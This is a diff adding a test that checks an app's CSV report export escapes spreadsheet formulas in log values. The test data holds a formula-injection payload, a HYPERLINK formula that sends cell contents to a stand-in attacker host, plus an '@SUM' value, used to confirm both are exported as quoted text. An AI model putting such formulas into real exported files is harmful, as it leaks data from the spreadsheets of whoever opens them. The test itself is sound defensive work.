@@ -696,3 +696,12 @@ def test_keys_page_audits_a_function_the_config_lists(monkeypatch, incident_db, 
     at.button(key="audit_run").click().run(timeout=120)
     assert not at.exception and not at.error, [e.value for e in at.error]
     assert metrics_of(at.main)["Verdict"] == "covers the request"
+
+
+def test_the_exported_report_shows_a_formula_in_a_log_value_as_text(monkeypatch, tmp_path, download):
+    hostile = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'
+    db = build_db(tmp_path, [rec(hostile, max_tokens=2, target_model="@SUM(A1:A9)")], "hostile")
+    at = open_app(monkeypatch, db, "export")
+    rows = list(__import__("csv").DictReader(download(at.get("download_button")[0]).decode().splitlines()))
+    assert [(r["request_id"], r["target_model"], r["max_tokens"]) for r in rows] == [
+        ("'" + hostile, "'@SUM(A1:A9)", "2")]
